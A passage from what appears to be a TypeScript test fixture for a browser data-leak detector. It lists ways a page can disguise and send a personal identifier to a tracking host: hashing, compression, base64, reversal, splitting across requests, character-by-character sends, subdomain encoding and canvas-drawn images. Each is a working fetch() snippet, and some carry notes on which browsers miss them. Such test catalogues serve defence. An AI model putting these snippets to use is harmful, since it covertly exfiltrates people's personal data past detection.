  {what: 'SHA-256', act: digest('SHA-256', hex), as: sum('sha256', 'hex')},
  {
    what: 'SHA-256 in base64',
    act: digest('SHA-256', 'btoa(String.fromCharCode(...bytes))'),
    as: sum('sha256', 'base64'),
  },
  {what: 'SHA-1', act: digest('SHA-1', hex), as: sum('sha1', 'hex')},
  {what: 'SHA-512', act: digest('SHA-512', hex), as: sum('sha512', 'hex')},
  {what: 'gzip', act: postLater(`new Response(${packed('gzip')}).arrayBuffer()`), as: () => '\u001f'},
  {what: 'deflate', act: postLater(`new Response(${packed('deflate')}).arrayBuffer()`), as: () => 'x'},
  {
    what: 'bare deflate',
    act: postLater(`new Response(${packed('deflate-raw')}).arrayBuffer()`),
    as: () => '',
  },
  {
    what: 'gzip in base64',
    act: postLater(
      `new Response(${packed('gzip')}).arrayBuffer().then((b) => JSON.stringify({z: btoa(String.fromCharCode(...new Uint8Array(b)))}))`,
    ),
    as: () => 'H4sI',
  },
  {what: 'gzip as a Blob', act: postLater(`new Response(${packed('gzip')}).blob()`), as: () => '\u001f'},
  {
    what: 'spaces',
    act: post("'v=' + value.replace(/(.)(..)(..)(..)(...)(...)(..)/, '$1 $2 $3 $4 $5 $6 $7')"),
  },
  {
    what: 'hyphens',
    act: post("'v=' + value.replace(/(.)(..)(..)(..)(...)(...)(..)/, '$1-$2-$3-$4-$5-$6-$7')"),
  },
  {what: 'reversed', act: post("'v=' + [...value].reverse().join('')"), as: (v) => [...v].reverse().join('')},
  {
    what: 'in two fields',
    act: post('JSON.stringify({nir: value.slice(0, 13), cle: value.slice(13)})'),
    as: (v) => v.slice(0, 13),
  },
  {
    what: 'in two sends',
    act: "(to, value) => { void fetch(to, {method: 'POST', mode: 'no-cors', body: 'a=' + value.slice(0, 8)}); void fetch(to, {method: 'POST', mode: 'no-cors', body: 'b=' + value.slice(8)}); }",
    as: (v) => v.slice(0, 8),
    unseen: {chromium: 'neither half is a number', firefox: 'neither half is a number'},
  },
  {
    what: 'key by key',
    act: "async (to, value) => { for (let n = 1; n <= value.length; n += 1) await fetch(to, {method: 'POST', mode: 'no-cors', body: 'v=' + value.slice(0, n)}); }",
  },
  {
    what: 'a subdomain',
    act: "(to, value) => { void fetch(to.replace('suivi', 'v' + value + '.suivi'), {mode: 'no-cors'}); }",
  },
  {
    what: 'a picture drawn',
    act: "(to, value) => { const c = document.createElement('canvas'); c.getContext('2d').fillText(value, 9, 9); c.toBlob((body) => void fetch(to, {method: 'POST', mode: 'no-cors', body})); }",
    as: () => 'PNG',
    unseen: {chromium: 'a picture is not read', firefox: 'a picture is not read'},
  },
];

export const leaks: readonly Leak[] = [
  ...forms,
  ...navigations,
  ...bodies,
  ...live,
  ...resources,
  ...elsewhere,
  ...redirections,
  ...encodings,
];
